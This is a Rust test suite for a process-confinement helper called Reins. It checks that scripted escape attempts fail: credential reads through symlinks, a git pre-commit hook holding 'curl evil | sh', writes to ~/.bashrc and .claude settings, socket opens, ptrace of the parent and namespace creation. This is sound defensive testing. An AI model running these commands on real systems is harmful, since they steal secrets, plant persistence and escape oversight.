//! The escape suite: the confinement helper (`reins __contain`) against real processes, real files
//! and real sockets, as root and as an unprivileged user (`nobody`, through `setpriv`). Each case
//! asserts on what happened — bytes on disk, connections a listener saw, processes left — never on
//! the helper's word alone.

use std::io::Read as _;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use serde_json::json;

use super::common::{text, Cli};

mod arguments;
mod stage;

const NOBODY: u32 = 65534;

/// A workspace, a home folder with credentials, a place outside both, and Reins' own data dir, all
/// reachable by `nobody` before confinement (so a refusal is the profile's, not the file modes').
struct Case {
    tmp: tempfile::TempDir,
}

impl Case {
    fn new() -> anyhow::Result<Self> {
        let tmp = tempfile::tempdir()?;
        let root = tmp.path();
        for dir in [
            "ws/.git/hooks",
            "ws/src",
            "home/.ssh",
            "home/.aws",
            "outside",
            "data",
            "tmp",
        ] {
            std::fs::create_dir_all(root.join(dir))?;
        }
        std::fs::write(root.join("ws/.git/config"), "[core]\n")?;
        std::fs::write(root.join("ws/README"), "hello\n")?;
        std::fs::write(root.join("home/.ssh/id_ed25519"), "PRIVATE KEY\n")?;
        std::fs::write(root.join("home/.aws/credentials"), "aws_secret=1\n")?;
        std::fs::write(root.join("home/notes.txt"), "notes\n")?;
        std::fs::write(root.join("data/reins.db"), "rows\n")?;
        open_to_all(root)?;
        Ok(Self { tmp })
    }

    fn at(&self, rel: &str) -> PathBuf {
        self.tmp.path().join(rel)
    }

    fn profile(&self, network: serde_json::Value) -> serde_json::Value {
        let ws = self.at("ws");
        json!({
            "read": ["/usr", "/bin", "/lib", "/lib64", "/etc", "/proc", "/dev", ws, self.at("home")],
            "write": [ws, self.at("tmp")],
            "hidden": [self.at("home/.ssh"), self.at("home/.aws"), self.at("data")],
            "read_only": [ws.join(".git/hooks"), ws.join(".git/config"), ws.join(".claude")],
            "network": network,
        })
    }

    /// Runs `script` under bash through the helper, as `user`.
    fn run(&self, user: User, script: &str) -> anyhow::Result<Output> {
        self.run_with(user, &self.profile(json!("none")), script)
    }

    fn run_with(
        &self,
        user: User,
        profile: &serde_json::Value,
        script: &str,
    ) -> anyhow::Result<Output> {
        let args: Vec<String> = vec![
            "__contain".into(),
            "--profile".into(),
            profile.to_string(),
            "--".into(),
            "/bin/bash".into(),
            "-c".into(),
            script.into(),
        ];
        let mut cmd = user.command(&args);
        cmd.current_dir(self.at("ws"))
            .env("HOME", self.at("home"))
            .env("TMPDIR", self.at("tmp"));
        Ok(cmd.output()?)
    }
}

/// Everyone may read and write everything under `dir`: a refusal is then the profile's.
fn open_to_all(dir: &Path) -> anyhow::Result<()> {
    for entry in walk(dir) {
        let mode = if entry.is_dir() { 0o777 } else { 0o666 };
        std::fs::set_permissions(&entry, std::fs::Permissions::from_mode(mode))?;
    }
    Ok(())
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = vec![dir.to_owned()];
    if let Ok(entries) = std::fs::read_dir(dir) {
        for e in entries.flatten() {
            if e.file_type().is_ok_and(|t| t.is_dir()) {
                out.extend(walk(&e.path()));
            } else {
                out.push(e.path());
            }
        }
    }
    out
}

#[derive(Clone, Copy, Debug)]
enum User {
    Me,
    Nobody,
}

impl User {
    /// Root runs each case twice: as itself and as `nobody`. Anyone else runs it as itself.
    fn all() -> Vec<User> {
        if rustix::process::geteuid().is_root() {
            vec![User::Me, User::Nobody]
        } else {
            vec![User::Me]
        }
    }

    fn command(self, args: &[String]) -> Command {
        let reins = env!("CARGO_BIN_EXE_reins");
        match self {
            User::Me => {
                let mut c = Command::new(reins);
                c.args(args.iter());
                c
            }
            User::Nobody => {
                let mut c = Command::new("setpriv");
                c.args([
                    format!("--reuid={NOBODY}"),
                    format!("--regid={NOBODY}"),
                    "--clear-groups".into(),
                    "--".into(),
                    reins.into(),
                ]);
                c.args(args.iter());
                c
            }
        }
    }
}

#[test]
fn writes_land_in_the_workspace_and_nowhere_else() -> anyhow::Result<()> {
    for user in User::all() {
        let case = Case::new()?;
        let out = case.run(
            user,
            "echo made > src/new.rs; echo tmp > \"$TMPDIR/t\"; echo x > /dev/null && echo null-ok; \
             echo evil > ../outside/planted; echo evil >> ../home/.bashrc; echo evil > /etc/reins-escape; true",
        )?;
        let said = text(&out);
        assert!(out.status.success(), "{user:?}: {said}");
        assert_eq!(
            std::fs::read_to_string(case.at("ws/src/new.rs"))?,
            "made\n",
            "{user:?}"
        );
        assert_eq!(
            std::fs::read_to_string(case.at("tmp/t"))?,
            "tmp\n",
            "{user:?}"
        );
        assert!(
            said.contains("null-ok"),
            "{user:?}: /dev/null stays writable: {said}"
        );
        assert!(!case.at("outside/planted").exists(), "{user:?}: {said}");
        assert!(!case.at("home/.bashrc").exists(), "{user:?}: {said}");
        assert!(!Path::new("/etc/reins-escape").exists(), "{user:?}: {said}");
        assert!(said.contains("Permission denied"), "{user:?}: {said}");
    }
    Ok(())
}

#[test]
fn protected_paths_inside_a_writable_workspace_stay_shut() -> anyhow::Result<()> {
    for user in User::all() {
        let case = Case::new()?;
        let out = case.run(
            user,
            "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
             printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; \
             mv .git/hooks .git/hooks-old; rm -rf .git/hooks; echo still-here > .git/HEAD; true",
        )?;
        let said = text(&out);
        assert!(
            !case.at("ws/.git/hooks/pre-commit").exists(),
            "{user:?}: {said}"
        );
        assert_eq!(
            std::fs::read_to_string(case.at("ws/.git/config"))?,
            "[core]\n",
            "{user:?}"
        );
        assert!(
            case.at("ws/.git/hooks").is_dir(),
            "{user:?}: the hooks folder stays: {said}"
        );
        // The rest of .git stays writable: commits work.
        assert_eq!(
            std::fs::read_to_string(case.at("ws/.git/HEAD"))?,
            "still-here\n",
            "{user:?}"
        );
    }
    Ok(())
}

#[test]
fn a_link_planted_in_the_workspace_carries_no_grant_outside() -> anyhow::Result<()> {
    for user in User::all() {
        let case = Case::new()?;
        std::os::unix::fs::symlink(case.at("outside"), case.at("ws/door"))?;
        std::os::unix::fs::symlink(case.at("home/.ssh"), case.at("ws/keys"))?;
        let out = case.run(user, "echo evil > door/through; cat keys/id_ed25519; true")?;
        let said = text(&out);
        assert!(!case.at("outside/through").exists(), "{user:?}: {said}");
        assert!(!said.contains("PRIVATE KEY"), "{user:?}: {said}");
    }
    Ok(())
}

#[test]
fn credentials_and_reins_own_data_cannot_be_read() -> anyhow::Result<()> {
    for user in User::all() {
        let case = Case::new()?;
        let out = case.run(
            user,
            "cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; cat ../data/reins.db; ls ~/.ssh; \
             cat ~/notes.txt; cat README",
        )?;
        let said = text(&out);
        // Listing a hidden folder shows names (its parent stays listable); never what they hold.
        for secret in ["PRIVATE KEY", "aws_secret", "rows"] {
            assert!(!said.contains(secret), "{user:?} read {secret:?}: {said}");
        }
        assert!(
            said.contains("notes"),
            "{user:?}: the rest of home is readable: {said}"
        );
        assert!(
            said.contains("hello"),
            "{user:?}: the workspace is readable: {said}"
        );
    }
    Ok(())
}

#[test]
fn no_network_means_no_tcp_udp_or_raw_socket() -> anyhow::Result<()> {
    let tcp = TcpListener::bind("127.0.0.1:0")?;
    tcp.set_nonblocking(true)?;
    let udp = UdpSocket::bind("127.0.0.1:0")?;
    udp.set_read_timeout(Some(Duration::from_millis(300)))?;
    let (tp, up) = (tcp.local_addr()?.port(), udp.local_addr()?.port());
    for user in User::all() {
        let case = Case::new()?;
        let out = case.run(
            user,
            &format!(
                "exec 3<>/dev/tcp/127.0.0.1/{tp} && echo tcp-open; echo hi > /dev/udp/127.0.0.1/{up} && echo udp-sent; \
                 /usr/bin/python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print(\"raw-open\")'; \
                 /usr/bin/python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print(\"packet-open\")'; true"
            ),
        )?;
        let said = text(&out);
        for opened in ["tcp-open", "udp-sent", "raw-open", "packet-open"] {
            assert!(!said.contains(opened), "{user:?}: {opened}: {said}");
        }
        assert!(
            tcp.accept().is_err(),
            "{user:?}: the TCP listener saw a connection"
        );
        let mut buf = [0u8; 16];
        assert!(
            udp.recv(&mut buf).is_err(),
            "{user:?}: the UDP socket got a datagram"
        );
    }
    Ok(())
}

#[test]
fn the_network_the_person_approved_is_there() -> anyhow::Result<()> {
    let tcp = TcpListener::bind("127.0.0.1:0")?;
    let port = tcp.local_addr()?.port();
    let case = Case::new()?;
    let out = case.run_with(
        User::Me,
        &case.profile(json!("full")),
        &format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo tcp-open"),
    )?;
    assert!(text(&out).contains("tcp-open"), "{}", text(&out));
    Ok(())
}

#[test]
fn a_local_socket_outside_cannot_be_reached() -> anyhow::Result<()> {
    for user in User::all() {
        let case = Case::new()?;
        // A listener in a folder the program may even write: the socket family itself is shut.
        let path = case.at("ws/bus.sock");
        let listener = UnixListener::bind(&path)?;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777))?;
        listener.set_nonblocking(true)?;
        let out = case.run(
            user,
            &format!(
                "/usr/bin/python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"{}\"); print(\"bus-open\")'; true",
                path.display()
            ),
        )?;
        let said = text(&out);
        assert!(!said.contains("bus-open"), "{user:?}: {said}");
        assert!(
            listener.accept().is_err(),
            "{user:?}: the socket saw a connection"
        );
    }
    Ok(())
}

#[test]
fn nothing_the_program_starts_outlives_it() -> anyhow::Result<()> {
    for user in User::all() {
        let case = Case::new()?;
        let out = case.run(
            user,
            "setsid sh -c 'sleep 97 & echo $! > daemon.pid; wait' >/dev/null 2>&1 < /dev/null & \
             (sleep 98 & echo $! > orphan.pid) ; sleep 0.3; echo started",
        )?;
        assert!(text(&out).contains("started"), "{user:?}: {}", text(&out));
        for pidfile in ["daemon.pid", "orphan.pid"] {
            let pid: i32 = std::fs::read_to_string(case.at(&format!("ws/{pidfile}")))?
                .trim()
                .parse()?;
            let alive = Path::new(&format!("/proc/{pid}")).exists()
                && !std::fs::read_to_string(format!("/proc/{pid}/stat"))?.contains(") Z ");
            assert!(!alive, "{user:?}: {pidfile} ({pid}) outlived the program");
        }
    }
    Ok(())
}

#[test]
fn the_parent_cannot_be_traced_and_no_namespace_can_be_made() -> anyhow::Result<()> {
    for user in User::all() {
        let case = Case::new()?;
        let out = case.run(
            user,
            "/usr/bin/python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print(\"ptrace\", libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())
print(\"unshare\", libc.unshare(0x10000000), ctypes.get_errno())
'; unshare -Ur true && echo userns-made; true",
        )?;
        let said = text(&out);
        assert!(
            said.contains("ptrace -1 1"),
            "{user:?}: ptrace refused (EPERM): {said}"
        );
        assert!(
            said.contains("unshare -1 1"),
            "{user:?}: unshare refused: {said}"
        );
        assert!(!said.contains("userns-made"), "{user:?}: {said}");
    }
    Ok(())
}

#[test]
fn the_helper_reports_what_the_kernel_enforced() -> anyhow::Result<()> {
    let case = Case::new()?;
    let report = case.at("enforced.json");
    let out = Command::new(env!("CARGO_BIN_EXE_reins"))
        .arg("__contain")
        .args(["--profile", &case.profile(json!("none")).to_string()])
        .arg("--report")
        .arg(&report)
        .args(["--", "/bin/sh", "-c", "exit 7"])
        .output()?;
    assert_eq!(
        out.status.code(),
        Some(7),
        "the program's own status: {}",
        text(&out)
    );
    let mut said = String::new();
    std::fs::File::open(&report)?.read_to_string(&mut said)?;
    let enforced: serde_json::Value = serde_json::from_str(said.trim())?;
    assert_eq!(enforced["landlock"]["status"], "full", "{said}");
    assert!(
        enforced["landlock"]["abi"].as_u64().unwrap_or(0) >= 6,
        "{said}"
    );
    assert_eq!(enforced["seccomp"], true, "{said}");
    assert_eq!(enforced["mounts"], true, "{said}");
    Ok(())
}

#[test]
fn doctor_says_once_how_an_agents_network_is_filtered() -> anyhow::Result<()> {
    for user in User::all() {
        let case = Case::new()?;
        let out = user
            .command(&["doctor".to_owned()])
            .env("REINS_DATA_DIR", case.at("data/reins"))
            .env("REINS_CONFIG_DIR", case.at("config"))
            .env("HOME", case.at("home"))
            .current_dir(case.at("ws"))
            .output()?;
        let said = text(&out);
        let line = said
            .lines()
            .find(|l| l.contains("commands run"))
            .unwrap_or_default();
        // Namespaces work on this kernel, for root and for a user: host filtering holds.
        assert!(
            line.starts_with("[ok  ] commands run confined (Landlock ABI"),
            "{user:?}: {said}"
        );
        assert!(
            line.ends_with("; an agent reaches only its endpoints (network namespace)"),
            "{user:?}: {said}"
        );
    }
    Ok(())
}

/// The whole path: `reins run` with a plan whose command over-reaches, as a person would run it.
#[test]
fn a_run_says_how_its_command_ran_and_what_was_blocked() -> anyhow::Result<()> {
    let cli = Cli::new()?;
    let home = cli.tmp.path().join("home");
    std::fs::create_dir_all(home.join(".ssh"))?;
    std::fs::write(home.join(".ssh/id_ed25519"), "PRIVATE KEY\n")?;
    let policy = cli.tmp.path().join("allow-shell.toml");
    std::fs::write(
        &policy,
        "[[rules]]\ndecision = \"allow\"\ntool = \"shell.exec\"\n",
    )?;
    let plan = cli.tmp.path().join("reach.toml");
    std::fs::write(
        &plan,
        "name = \"reach\"\ngoal = \"a build that over-reaches\"\n\
         [[steps]]\ntool = \"shell.exec\"\n\
         args = { command = \"echo built > built.txt; echo evil >> ~/.bashrc; mkdir -p .claude && echo x > .claude/settings.json; cat ~/.ssh/id_ed25519; true\" }\n",
    )?;
    // Its words reach outside the workspace: high risk, so a person reviews it, and approves.
    let out = cli
        .cmd()
        .env("REINS_POLICY", &policy)
        .env("HOME", &home)
        .args(["run", "--no-wait", "--plan"])
        .arg(&plan)
        .arg("--workspace")
        .arg(cli.ws())
        .output()?;
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    let cards = cli.json(&["approvals"])?;
    let id = cards[0]["id"].as_str().unwrap_or_default().to_owned();
    let out = cli
        .cmd()
        .env("REINS_POLICY", &policy)
        .env("HOME", &home)
        .args(["approve", &id, "--drive"])
        .output()?;
    let said = text(&out);
    assert!(out.status.success(), "{said}");
    assert_eq!(cli.read("built.txt")?, "built\n");
    assert!(!home.join(".bashrc").exists(), "{said}");
    assert!(!cli.ws().join(".claude").exists(), "{said}");
    let run = cli.only_run()?;
    let shown = text(&cli.run(&["show", &run])?);
    // The audit log has it too, in words.
    let audit = cli
        .json(&["audit", "list", "--run", &run, "--kind", "step.contained"])?
        .to_string();
    assert!(audit.contains("ran confined (Landlock ABI"), "{audit}");
    assert!(
        audit.contains("blocked: echo tried to create .claude"),
        "{audit}"
    );
    assert!(!shown.contains("PRIVATE KEY"), "{shown}");
    assert!(shown.contains("confined (Landlock ABI"), "{shown}");
    assert!(
        shown.contains("no network, writes inside the workspace"),
        "{shown}"
    );
    assert!(
        shown.contains("tried to create .claude (a protected path): removed"),
        "{shown}"
    );
    assert!(shown.contains("was refused"), "{shown}");
    Ok(())
}
